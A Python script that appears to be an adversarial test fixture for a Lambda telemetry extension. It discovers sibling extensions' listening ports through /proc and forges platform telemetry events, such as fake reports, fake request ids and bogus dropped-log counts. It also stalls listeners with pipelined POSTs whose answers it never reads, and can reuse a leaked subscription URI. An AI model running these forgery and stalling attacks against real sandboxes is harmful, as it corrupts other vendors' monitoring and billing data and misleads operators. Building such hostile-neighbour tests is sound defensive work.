#!/usr/bin/env python3
"""hostile: a neighbour in the sandbox that tries to forge or silence another extension's
telemetry, as a function running attacker-controlled input (or another vendor's extension)
could.

It finds the ports its sibling processes listen on (the extensions started next to it) from
/proc/net/tcp and /proc/PID/fd, as any code in a Lambda sandbox can, and then, at each
invocation, does what the event (or, as an extension, HOSTILE_ATTACK) asks:

  forge-report      POST a platform.report and a platform.runtimeDone for its own request id:
                    status error, 99999 ms, 4242 MB
  forge-start       POST platform.start for its own request id and for 20 made-up ones
  forge-dropped     POST a platform.logsDropped of 999,999,999,999 records
  forge-init        POST a platform.initReport of 4242 ms
  flood-ids         POST platform.start and platform.report for 64 made-up request ids
  forge-unknown     POST a platform.runtimeDone and platform.report for a made-up request id
  pipeline          on one connection per port (with the smallest receive buffer), a thread
                    pipelines POSTs for as long as the connection takes them and never reads an
                    answer; the connections stay open for the life of the process
  none              nothing

With "sleep_ms" in the event, the invocation then lasts that much longer (at most 60 s): time in
which whatever it left running (a pipelining thread) goes on.

Every POST goes to each port at a few guessed paths ("/", "/telemetry", "/lambda"). The answer
to each invocation says what it found, what each POST got back (status, or null), how many
requests each pipelining connection took and whether the listener had closed it.

With "uri" in the event (the URI leakwatch subscribed, which the emulator records), the
neighbour knows the secret path, as code that can read leakwatch's memory would, or one
SnapStart environment's code that read it in another: the batch goes there instead (to the
URI's port on 127.0.0.1), once, and the answer has its status under "known" (the pipeline uses
that path too, with empty batches). Then forge-report forges for request ids this process
served two or more invocations ago (their real reports are in by then; the one in flight is
the known limit of docs/security.md), and forge-unknown posts a platform.runtimeDone and
platform.report for one made-up id. With "delay_ms" (at most 10 s) the attack waits that long
first: time for the platform's own events of the phase before to be delivered.

Run as a function (the Runtime API loop) when _HANDLER is set, else as an external extension
(registers for INVOKE and SHUTDOWN; its name is its file name). Standard library only.
"""

import http.client
import json
import os
import socket
import sys
import threading
import time
import urllib.parse
import uuid

GUESSED_PATHS = ("/", "/telemetry", "/lambda")
KEPT = []  # the pipelining sockets: open as long as the process lives
SERVED = []  # request ids of the invocations this process served, oldest first


def log(message):
    sys.stderr.write("[hostile] %s\n" % message)
    sys.stderr.flush()


# --- who listens next door ---------------------------------------------------------------------

def _ppid(pid):
    try:
        with open("/proc/%s/stat" % pid) as f:
            stat = f.read()
        return int(stat[stat.rindex(")") + 2:].split()[1])
    except (OSError, ValueError, IndexError):
        return None


def _socket_inodes(pid):
    inodes = set()
    try:
        fds = os.listdir("/proc/%s/fd" % pid)
    except OSError:
        return inodes
    for fd in fds:
        try:
            target = os.readlink("/proc/%s/fd/%s" % (pid, fd))
        except OSError:
            continue
        if target.startswith("socket:["):
            inodes.add(target[8:-1])
    return inodes


def _listening():
    """(port, inode) of every listening TCP socket of this network namespace."""
    out = []
    for name in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(name) as f:
                lines = f.readlines()[1:]
        except OSError:
            continue
        for line in lines:
            cols = line.split()
            if len(cols) > 9 and cols[3] == "0A":
                out.append((int(cols[1].rsplit(":", 1)[1], 16), cols[9]))
    return out


def neighbour_ports():
    """The ports the processes started next to this one (and their descendants) listen on."""
    me, parent = os.getpid(), os.getppid()
    ppids = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            ppids[int(entry)] = _ppid(entry)
    inodes = set()
    for pid in ppids:
        up, hops = pid, 0
        while up not in (None, 0, 1, me) and ppids.get(up) != parent and hops < 64:
            up, hops = ppids.get(up), hops + 1
        if up not in (None, 0, 1, me) and ppids.get(up) == parent:
            inodes |= _socket_inodes(pid)
    return sorted({port for port, inode in _listening() if inode in inodes})


# --- what it sends -----------------------------------------------------------------------------

def _event(kind, record):
    return {"time": time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime()), "type": kind,
            "record": record}


def _forged_report(request_id):
    return [
        _event("platform.runtimeDone", {
            "requestId": request_id, "status": "error", "errorType": "Forged.Error",
            "metrics": {"durationMs": 99999.0, "producedBytes": 1}}),
        _event("platform.report", {
            "requestId": request_id, "status": "error", "errorType": "Forged.Error",
            "metrics": {"durationMs": 99999.0, "billedDurationMs": 100000,
                        "memorySizeMB": 4242, "maxMemoryUsedMB": 4242}}),
    ]


def batch_for(attack, request_id, known_path=False):
    if attack == "forge-report":
        if not known_path:
            return _forged_report(request_id)
        out = []
        for old in SERVED[:-1]:  # not the previous one: its real report may still be on its way
            out += _forged_report(old)
        return out
    if attack == "forge-unknown":
        return _forged_report(str(uuid.uuid4()))
    if attack == "forge-start":
        ids = [request_id] + [str(uuid.uuid4()) for _ in range(20)]
        return [_event("platform.start", {"requestId": i, "version": "$LATEST"}) for i in ids]
    if attack == "forge-dropped":
        return [_event("platform.logsDropped", {
            "reason": "Consumer seems to have fallen behind as it has not acknowledged receipt "
                      "of logs.", "droppedRecords": 999999999999, "droppedBytes": 999999999999})]
    if attack == "forge-init":
        return [_event("platform.initReport", {"initializationType": "on-demand", "phase": "init",
                                               "metrics": {"durationMs": 4242.0}})]
    if attack == "flood-ids":
        out = []
        for _ in range(64):
            i = str(uuid.uuid4())
            out.append(_event("platform.start", {"requestId": i}))
            out.append(_event("platform.report", {"requestId": i, "status": "success",
                                                  "metrics": {"durationMs": 1.0}}))
        return out
    return None


def post(port, path, body):
    """One POST on a fresh connection; the answer's status, or None."""
    try:
        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=2)
        conn.request("POST", path, body=body, headers={"Content-Type": "application/json"})
        status = conn.getresponse().status
        conn.close()
        return status
    except (OSError, http.client.HTTPException):
        return None


def pipeline(port, body, path="/"):
    """On one connection, POSTs written back to back by a thread for as long as the connection
    takes them, nothing ever read. Returns how many went out before they stopped going (or in
    the first 5 s), and whether the listener closed the connection by then."""
    one = (("POST %s HTTP/1.1\r\nHost: sandbox.localdomain\r\nContent-Type: application/json\r\n"
            "Content-Length: %d\r\n\r\n" % (path, len(body))).encode() + body)
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    # the smallest receive buffer: the answers it never reads fill it at once
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
    try:
        s.settimeout(2)
        s.connect(("127.0.0.1", port))
        s.settimeout(None)
    except OSError:
        s.close()
        return 0, True
    KEPT.append(s)
    state = {"sent": 0, "closed": False}

    def feed():
        chunk = one * 100
        try:
            while True:
                s.sendall(chunk)
                state["sent"] += 100
        except OSError:
            state["closed"] = True  # reset or closed by the listener

    threading.Thread(target=feed, daemon=True).start()
    # until the listener stops taking them (its answers fill both buffers), at most 5 s
    last, still_since, t0 = -1, time.monotonic(), time.monotonic()
    while time.monotonic() - t0 < 5.0 and time.monotonic() - still_since < 0.5:
        time.sleep(0.05)
        if state["sent"] != last:
            last, still_since = state["sent"], time.monotonic()
    return state["sent"], state["closed"]


def attack(kind, request_id, uri=None):
    ports = neighbour_ports()
    result = {"attack": kind, "ports": ports, "posts": {}, "pipelined": {}, "closed": {}}
    known = urllib.parse.urlsplit(uri) if uri else None
    if kind == "pipeline":
        if known is not None:
            sent, closed = pipeline(known.port, b"[]", known.path)
            result["pipelined"][str(known.port)] = sent
            result["closed"][str(known.port)] = closed
            return result
        body = json.dumps([_event("platform.start", {"requestId": request_id})]).encode()
        for port in ports:
            sent, closed = pipeline(port, body)
            result["pipelined"][str(port)] = sent
            result["closed"][str(port)] = closed
        return result
    batch = batch_for(kind, request_id, known is not None)
    if batch is None:
        return result
    body = json.dumps(batch).encode()
    if known is not None:
        result["known"] = post(known.port, known.path, body)
        result["events"] = len(batch)
        return result
    for port in ports:
        result["posts"][str(port)] = [post(port, path, body) for path in GUESSED_PATHS]
    return result


# --- as a function -----------------------------------------------------------------------------

def request(api, method, path, body=None, headers=None):
    conn = http.client.HTTPConnection(api)  # no timeout: next is a long poll
    try:
        conn.request(method, path, body=body, headers=headers or {})
        resp = conn.getresponse()
        return resp.status, resp, resp.read()
    finally:
        conn.close()


def run_function():
    api = os.environ["AWS_LAMBDA_RUNTIME_API"]
    while True:
        status, resp, payload = request(api, "GET", "/2018-06-01/runtime/invocation/next")
        request_id = resp.getheader("Lambda-Runtime-Aws-Request-Id", "")
        if status != 200 or not request_id:
            log("invocation/next answered %d" % status)
            sys.exit(1)
        try:
            event = json.loads(payload) if payload.strip() else {}
        except ValueError:
            event = {}
        if not isinstance(event, dict):
            event = {}
        kind = event.get("attack", "none")
        delay_ms = event.get("delay_ms", 0)
        if isinstance(delay_ms, int) and 0 < delay_ms <= 10000:
            time.sleep(delay_ms / 1000.0)
        result = attack(kind, request_id, event.get("uri"))
        SERVED.append(request_id)
        sleep_ms = event.get("sleep_ms", 0)
        if isinstance(sleep_ms, int) and 0 < sleep_ms <= 60000:
            time.sleep(sleep_ms / 1000.0)  # time for a stalled listener to cost something
        result["request_id"] = request_id
        result["pid"] = os.getpid()
        log("%s: ports %s, posts %s, pipelined %s" % (kind, result["ports"], result["posts"],
                                                     result["pipelined"]))
        request(api, "POST", "/2018-06-01/runtime/invocation/%s/response" % request_id,
                json.dumps(result).encode(), {"Content-Type": "application/json"})


# --- as an extension ---------------------------------------------------------------------------

def run_extension():
    api = os.environ["AWS_LAMBDA_RUNTIME_API"]
    name = os.path.basename(sys.argv[0])
    kind = os.environ.get("HOSTILE_ATTACK", "none")
    status, resp, _ = request(api, "POST", "/2020-01-01/extension/register",
                              json.dumps({"events": ["INVOKE", "SHUTDOWN"]}).encode(),
                              {"Lambda-Extension-Name": name})
    ext_id = resp.getheader("Lambda-Extension-Identifier", "")
    if status != 200 or not ext_id:
        log("register answered %d" % status)
        sys.exit(1)
    while True:
        status, _, body = request(api, "GET", "/2020-01-01/extension/event/next",
                                  headers={"Lambda-Extension-Identifier": ext_id})
        if status != 200:
            sys.exit(1)
        event = json.loads(body)
        if event.get("eventType") == "SHUTDOWN":
            sys.exit(0)
        result = attack(kind, event.get("requestId", ""))
        log("%s (extension): ports %s, posts %s, pipelined %s"
            % (kind, result["ports"], result["posts"], result["pipelined"]))


if __name__ == "__main__":
    if "_HANDLER" in os.environ:
        run_function()
    else:
        run_extension()
